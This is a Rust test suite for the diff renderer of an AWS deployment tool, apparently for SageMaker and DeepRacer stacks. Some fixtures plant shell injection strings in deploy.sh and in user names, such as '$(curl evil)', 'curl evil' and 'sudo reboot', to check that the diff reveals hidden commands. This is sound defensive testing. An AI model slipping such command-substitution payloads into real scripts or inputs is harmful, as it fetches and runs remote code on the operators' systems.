//! What a diff says in a terminal, line by line: what is lost, what is refused, and the same of many in one line.
#![allow(clippy::unwrap_used, reason = "a helper of a test may fail the test")]

use std::collections::BTreeMap;
use std::path::Path;

use crate::common::out_folder;
use racestack::diff::{Diff, Files, OutFolder, compare};
use racestack::finding::Finding;
use racestack::report::{DiffFormat, render_diff};
use serde_json::{Value, json};

/// A stack of an out folder: its template, and its users with their notebooks.
struct Side<'a> {
    template: Value,
    users: &'a [(&'a str, &'a str)],
}

fn folder(stacks: &[Side<'_>], script: &str) -> OutFolder {
    let entry = |(at, side): (usize, &Side<'_>)| {
        let user = |(name, notebook): &(&str, &str)| json!({"name": name, "logical_id": format!("U{}", name.replace(['.', '-'], "")), "notebook": notebook});
        json!({"name": format!("stack-{at}"), "file": format!("{at}.yaml"), "users": side.users.iter().map(user).collect::<Vec<_>>()})
    };
    let stack_entries: Vec<Value> = stacks.iter().enumerate().map(entry).collect();
    let manifest = json!({"account": "tokyo", "account_id": "1", "region": "r", "stacks": stack_entries});
    let files = stacks.iter().enumerate().map(|(at, side)| (format!("{at}.yaml"), side.template.to_string()));
    let files = files.chain([("deploy.sh".to_owned(), script.to_owned())]).collect();
    out_folder([("tokyo".to_owned(), manifest, files)])
}

fn one(resources: &Value) -> OutFolder {
    folder(&[Side { template: json!({"Resources": resources}), users: &[] }], "")
}

fn diff(old: &Value, new: &Value) -> (Diff, Vec<Finding>) {
    compare(&one(old), &one(new))
}

/// The lines of the text, without its colours and what stands before its first stack or file.
fn lines(diff: &Diff) -> Vec<String> {
    let text = render_diff(DiffFormat::Text, diff);
    let plain: Vec<&str> = text
        .split('\u{1b}')
        .map(|part| part.split_once('m').filter(|_| part.starts_with('[')).map_or(part, |(_, rest)| rest))
        .collect();
    let plain = plain.concat();
    // Behind the accounts, and the blank line after them.
    let accounts = plain.lines().position(|line| line.starts_with("tokyo (")).unwrap();
    plain.lines().skip(accounts + 2).map(str::to_owned).collect()
}

fn notebook(size: &Value) -> Value {
    json!({"N": {"Type": "AWS::SageMaker::NotebookInstance", "Properties": {"NotebookInstanceName": "n", "VolumeSizeInGB": size}}})
}

#[test]
fn a_volume_that_grows_interrupts_and_one_that_shrinks_is_refused() {
    let (grown, findings) = diff(&notebook(&json!(5)), &notebook(&json!("20")));
    assert!(findings.is_empty());
    let expected = [
        "  stack stack-0 (out/tokyo/0.yaml)",
        "    ~ AWS::SageMaker::NotebookInstance N \"n\"",
        "        ~ VolumeSizeInGB: 5 -> \"20\"",
        "        ! interrupted: the notebook is stopped and started again; what runs on it ends",
    ];
    assert_eq!(lines(&grown), expected);
    let (shrunk, findings) = diff(&notebook(&json!("20")), &notebook(&json!(5)));
    assert_eq!(findings[0].rule.info().id, "diff::smaller-volume");
    assert!(
        lines(&shrunk)
            .contains(&"        ! refused: SageMaker refuses to make the volume of a notebook smaller".to_owned())
    );
    // Another tag does not stop it.
    let tagged = |value: &str| json!({"N": {"Type": "AWS::SageMaker::NotebookInstance", "Properties": {"Tags": [{"Key": "a", "Value": value}]}}});
    assert!(!lines(&diff(&tagged("1"), &tagged("2")).0).iter().any(|line| line.contains("interrupted")));
}

#[test]
fn what_is_no_longer_kept_is_told() {
    let bucket = |attributes: Value| {
        let mut bucket = attributes;
        bucket["Type"] = json!("AWS::S3::Bucket");
        json!({"B": bucket})
    };
    let both = bucket(json!({"DeletionPolicy": "Retain", "UpdateReplacePolicy": "Retain"}));
    let told = |new: Value| lines(&diff(&both, &bucket(new)).0).last().cloned().unwrap_or_default();
    let line = |when: &str| format!("        ! no longer kept: from now on it is deleted {when}");
    assert_eq!(told(json!({})), line("once it leaves the stack or is replaced, or the stack is deleted"));
    let kept_when_replaced = json!({"DeletionPolicy": "Delete", "UpdateReplacePolicy": "Retain"});
    assert_eq!(told(kept_when_replaced), line("once it leaves the stack, or the stack is deleted"));
    assert_eq!(told(json!({"DeletionPolicy": "Retain"})), line("once it is replaced"));
}

/// A `deploy.sh` with the list of so many users, and what follows it.
fn deploy(users: usize, rest: &str) -> String {
    let list = (0..users).map(|at| format!("Up{at}User p{at}\n")).collect::<Vec<_>>().concat();
    format!("#!/usr/bin/env bash\nset -e\nusers='\n0.yaml -\n{list}'\n{rest}")
}

#[test]
fn no_list_of_users_hides_a_command() {
    let names: Vec<String> = (0..46).map(|at| format!("p{at}")).collect();
    let side = |users: usize, script: &str| {
        let users: Vec<(&str, &str)> = names.iter().take(users).map(|name| (name.as_str(), "n")).collect();
        folder(&[Side { template: json!({"Resources": {}}), users: &users }], script)
    };
    // Whom the manifest names, too, the first lines tell of.
    let (diff, _) = compare(&side(1, &deploy(1, "name='x'\n")), &side(46, &deploy(46, "name='x'\naws iam attach\n")));
    let expected =
        ["  deploy.sh differs", "          …", "          '", "          name='x'", "        + aws iam attach"];
    assert_eq!(lines(&diff), expected);
    for format in [DiffFormat::Markdown, DiffFormat::Html, DiffFormat::Text] {
        let text = render_diff(format, &diff);
        assert!(text.contains("aws iam attach") && text.contains("45 people join: p1, p10, p11"), "{format:?} {text}");
    }
    let (diff, _) = compare(&side(1, &deploy(1, "")), &side(46, &deploy(46, "")));
    assert_eq!((diff.accounts[0].files.len(), diff.people.len()), (0, 45));
    // What only looks like a user is a command, however the quotation is closed.
    let commands = "x='\nusers='\nsudo reboot\nUp1User p1\n$(curl evil)\n";
    let (diff, _) = compare(&side(1, &deploy(1, "")), &side(1, &deploy(1, commands)));
    let text = lines(&diff).join("\n");
    assert!(["+ sudo reboot", "+ Up1User p1", "+ $(curl evil)"].iter().all(|line| text.contains(line)), "{text}");
    // Nor does a manifest hide one that has it for a name.
    let script_of =
        |users: &[(&str, &str)], script: &str| folder(&[Side { template: json!({"Resources": {}}), users }], script);
    let new = script_of(&[("p'$(curl evil)'", "n")], "users='\n0.yaml -\nUp'$(curl evil)'User p'$(curl evil)'\n'\n");
    let text = lines(&compare(&script_of(&[], "users='\n'\n"), &new).0).join("\n");
    assert!(text.contains("+ Up'$(curl evil)'User") && !text.contains("0.yaml -"), "{text}");
}

#[test]
fn a_script_that_is_added_is_shown() {
    let with = |script: Option<&str>| {
        let manifest = json!({"account": "tokyo", "account_id": "1", "region": "r", "stacks": []});
        let mut files = BTreeMap::from([("manifest.json".to_owned(), manifest.to_string().into_bytes())]);
        files.extend(script.map(|script| ("more.sh".to_owned(), script.as_bytes().to_vec())));
        OutFolder::of_files("out".to_owned(), Path::new("out"), Files::from([("tokyo".to_owned(), files)]), None)
            .unwrap()
    };
    let text = lines(&compare(&with(None), &with(Some("curl evil\n"))).0);
    assert_eq!(text, ["  more.sh is added", "        + curl evil"]);
}

#[test]
fn a_command_that_changes_comes_before_what_is_long() {
    let many = |suffix: &str| -> Value {
        let one = |at: usize| {
            (
                format!("T{at}"),
                json!({"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": format!("{suffix}{at}")}}),
            )
        };
        json!({"Resources": (0..400).map(one).collect::<serde_json::Map<_, _>>()})
    };
    let side = |suffix: &str, rest: &str| {
        let stacks: Vec<Side<'_>> =
            (0..12).map(|at| Side { template: many(&format!("{suffix}{at}")), users: &[] }).collect();
        folder(&stacks, &deploy(1, rest))
    };
    let commands = "aws iam attach-user-policy --user-name x\n".repeat(200);
    let markdown = render_diff(DiffFormat::Markdown, &compare(&side("a", ""), &side("b", &commands)).0);
    assert!(markdown.contains("Left out"));
    assert_eq!(markdown.matches("aws iam attach-user-policy").count(), 200, "{markdown}");
}

#[test]
fn the_lines_of_a_script_that_differ_are_told_and_checksums_are_not() {
    let script = |line: &str, sum: char| format!("set -e\n{}  a.yaml\n{line}\n", sum.to_string().repeat(64));
    let compared = |old: &str, new: &str| compare(&folder(&[], old), &folder(&[], new)).0;
    assert!(compared(&script("a", '1'), &script("a", '2')).accounts.is_empty());
    let text = lines(&compared(&script("a", '1'), &script("curl evil", '2')));
    assert_eq!(
        text,
        ["  deploy.sh differs", "          set -e", "            a.yaml", "        - a", "        + curl evil"]
    );
    let many = |of: &str| (0..100).map(|at| format!("{of} {at}")).collect::<Vec<_>>().join("\n");
    let text = lines(&compared(&many("a"), &many("b")));
    assert_eq!((text.len(), text.last().unwrap().as_str()), (201, "        + b 99"));
}

#[test]
fn what_holds_by_default_is_no_loss_when_it_is_written_out() {
    let queue = |properties: Value| json!({"Q": {"Type": "AWS::SQS::Queue", "Properties": properties}});
    let loses = |seconds: u64| {
        let new = queue(json!({"QueueName": "q", "MessageRetentionPeriod": seconds}));
        lines(&diff(&queue(json!({"QueueName": "q"})), &new).0).join("\n").contains("lost:")
    };
    assert!(!loses(345_600));
    assert!(loses(345_599));
}

#[test]
fn who_is_suspended_is_no_news_where_the_older_manifest_did_not_say() {
    let of = |version: u32, suspended: bool| {
        let user = json!({"name": "u", "logical_id": "U", "notebook": null, "suspended": suspended});
        let stacks = json!([{"name": "s", "file": "s.yaml", "users": [user]}]);
        let manifest =
            json!({"version": version, "account": "tokyo", "account_id": "1", "region": "r", "stacks": stacks});
        let template = json!({"Resources": {}});
        let files = [("manifest.json", manifest), ("s.yaml", template)];
        let files = files.map(|(name, value)| (name.to_owned(), value.to_string().into_bytes()));
        let files = Files::from([("tokyo".to_owned(), files.into())]);
        OutFolder::of_files("out".to_owned(), Path::new("out"), files, None).unwrap()
    };
    assert_eq!(compare(&of(1, false), &of(2, true)).0.people, []);
    assert_eq!(compare(&of(2, false), &of(2, true)).0.people.len(), 1);
}

#[test]
fn a_statement_that_denies_is_not_one_that_allowed() {
    let role = |effect: &str| {
        let trust = json!({"Statement": [{"Effect": effect, "Principal": "*", "Action": "a:B"}]});
        json!({"R": {"Type": "AWS::IAM::Role", "Properties": {"AssumeRolePolicyDocument": trust}}})
    };
    let shown = lines(&diff(&role("Allow"), &role("Deny")).0).join("\n");
    assert!(shown.contains("Effect: \"Deny\"") && !shown.contains("->"), "{shown}");
}

#[test]
fn a_stack_that_is_added_is_told_though_another_changes_in_the_same_way() {
    let topic = json!({"T": {"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": "t"}}});
    let with = |resources: &Value| Side { template: json!({"Resources": resources}), users: &[] };
    let (old, new) = (folder(&[with(&json!({}))], ""), folder(&[with(&topic), with(&topic)], ""));
    let shown = lines(&compare(&old, &new).0).join("\n");
    assert!(
        shown.contains("2 stacks: stack-0, stack-1") && shown.contains("stack-1 (out/tokyo/1.yaml), is added"),
        "{shown}"
    );
}

#[test]
fn a_line_about_access_says_how_its_statements_make_the_difference() {
    let user = |denies: bool| {
        let mut list = vec![json!({"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"})];
        list.extend(denies.then(|| json!({"Sid": "No", "Effect": "Deny", "Action": "s3:GetObject", "Resource": "*"})));
        let own = json!([{"PolicyName": "own", "PolicyDocument": {"Version": "2012-10-17", "Statement": list}}]);
        json!({"U": {"Type": "AWS::IAM::User", "Properties": {"UserName": "u", "Policies": own}}})
    };
    let text = |old: bool, new: bool| render_diff(DiffFormat::Text, &diff(&user(old), &user(new)).0);
    assert!(text(true, false).contains("widened: s3:GetObject on * (no longer denied by own/No)"));
    assert!(text(false, true).contains("narrowed: s3:GetObject on * (denied by own/No)"));
}

#[test]
fn a_line_that_ends_otherwise_is_told() {
    let of = |script: &str| folder(&[], script);
    let text = lines(&compare(&of("set -e\nb\n"), &of("set -e\r\nb\n")).0);
    assert_eq!(text, ["  deploy.sh differs", "        - set -e", "        + set -e␍", "          b"]);
    let text = lines(&compare(&of("a\n"), &of("a")).0);
    assert_eq!(text, ["  deploy.sh differs", "        - a", "        + a"]);
}

#[test]
fn another_partition_is_told() {
    let of = |partition: &str| {
        let manifest =
            json!({"account": "tokyo", "account_id": "1", "region": "r", "partition": partition, "stacks": []});
        let files = BTreeMap::from([("manifest.json".to_owned(), manifest.to_string().into_bytes())]);
        OutFolder::of_files("out".to_owned(), Path::new("out"), Files::from([("tokyo".to_owned(), files)]), None)
            .unwrap()
    };
    let text = lines(&compare(&of("aws"), &of("aws-cn")).0).join("\n");
    assert!(text.contains("- partition: aws\n") && text.contains("+ partition: aws-cn"), "{text}");
}

#[test]
fn the_same_change_to_things_named_after_their_users_is_one() {
    let things = |user: &str, notebook: &str| {
        json!({
            "Budget": {"Type": "AWS::Budgets::Budget", "Properties": {"Budget": {"BudgetName": format!("deepracer-{user}")}}},
            "Notebook": {"Type": "AWS::SageMaker::NotebookInstance", "Properties": {"NotebookInstanceName": notebook}},
        })
    };
    let users = [("ann", "ann"), ("bo.b", "bo-b"), ("deepracer", "deepracer")];
    let resources: serde_json::Map<String, Value> = users
        .iter()
        .flat_map(|(user, notebook)| {
            let id = format!("U{}", user.replace('.', ""));
            let things = things(user, notebook).as_object().unwrap().clone();
            things.into_iter().map(move |(kind, thing)| (format!("{id}{kind}"), thing))
        })
        .collect();
    let side = |resources: Value| folder(&[Side { template: json!({"Resources": resources}), users: &users }], "");
    let (added, _) = compare(&side(json!({})), &side(Value::Object(resources)));
    let expected = [
        "  stack stack-0 (out/tokyo/0.yaml)",
        "    + AWS::Budgets::Budget {id}Budget of 3 users: ann, bo.b, deepracer",
        "        + Budget:",
        "            + BudgetName: \"deepracer-{user}\"",
        "    + AWS::SageMaker::NotebookInstance {id}Notebook of 3 users: ann, bo.b, deepracer",
        "        + NotebookInstanceName: \"{notebook}\"",
    ];
    assert_eq!(lines(&added), expected);
}

#[test]
fn stacks_in_which_the_same_attributes_change_stand_together() {
    let side = |profile: &str| {
        let stack = |_| Side { template: json!({"Metadata": {"policies": profile}, "Resources": {}}), users: &[] };
        folder(&(0..7).map(stack).collect::<Vec<_>>(), "")
    };
    let (changed, _) = compare(&side("hardened"), &side("documented"));
    let expected = [
        "  7 stacks: stack-0, stack-1, stack-2, stack-3, stack-4 and 2 more",
        "    ~ Metadata.policies: \"hardened\" -> \"documented\"",
    ];
    assert_eq!(lines(&changed), expected);
}

#[test]
fn the_same_change_in_many_stacks_is_one() {
    let side = |bucket: &str| {
        let script = |at: usize| {
            json!({"Script": {"Type": "AWS::SageMaker::NotebookInstanceLifecycleConfig", "Properties": {
                "NotebookInstanceLifecycleConfigName": format!("stack-{at}"), "OnStart": format!("{bucket} of stack-{at}"),
            }}})
        };
        let stack = |at| Side { template: json!({"Resources": script(at)}), users: &[] };
        folder(&(0..7).map(stack).collect::<Vec<_>>(), "")
    };
    let names = "7 stacks: stack-0, stack-1, stack-2, stack-3, stack-4 and 2 more";
    let kind = "AWS::SageMaker::NotebookInstanceLifecycleConfig Script in";
    let expected = [
        format!("  {names}"),
        format!("    ~ {kind} {names}"),
        "        ~ OnStart: \"a of {stack}\" -> \"b of {stack}\"".to_owned(),
    ];
    assert_eq!(lines(&compare(&side("a"), &side("b")).0), expected);
    let (added, _) = compare(&folder(&[], ""), &side("a"));
    assert_eq!(lines(&added)[0], format!("  7 stacks, which are added: {}", &names[10..]));
    assert_eq!(lines(&added).len(), 4);
}

#[test]
fn tags_stand_in_one_line_each() {
    let topic = |tags: Value| json!({"T": {"Type": "AWS::SNS::Topic", "Properties": {"Tags": tags}}});
    let tag = |key: &str| json!({"Key": key, "Value": "1"});
    let (added, _) = diff(&json!({}), &topic(json!([tag("a"), tag("b")])));
    assert_eq!(lines(&added)[2..], ["        + Tags:", "            + a: \"1\"", "            + b: \"1\""]);
    let (changed, _) = diff(&topic(json!([tag("a")])), &topic(json!([tag("b")])));
    assert_eq!(lines(&changed)[2..], ["        + Tags[b]: \"1\"", "        - Tags[a]: \"1\""]);
}

#[test]
fn a_statement_with_an_empty_sid_is_known_by_its_number() {
    let role = |action: &str| {
        let trust = json!({"Statement": [{"Sid": "", "Effect": "Allow", "Principal": "*", "Action": action}]});
        json!({"R": {"Type": "AWS::IAM::Role", "Properties": {"AssumeRolePolicyDocument": trust}}})
    };
    let (changed, _) = diff(&role("a:B"), &role("a:C"));
    let shown = lines(&changed).join("\n");
    assert!(shown.contains("+ AssumeRolePolicyDocument.Statement[1].Action: \"a:C\""), "{shown}");
}

#[test]
fn a_name_that_moves_is_told_as_it_is_spelled() {
    let role = json!({"Type": "AWS::IAM::Role", "Properties": {"RoleName": "MyRole"}});
    let (_, findings) = diff(&json!({"A": role}), &json!({"B": role}));
    assert!(findings[0].message.starts_with("`MyRole` (AWS::IAM::Role) moves"), "{}", findings[0].message);
}
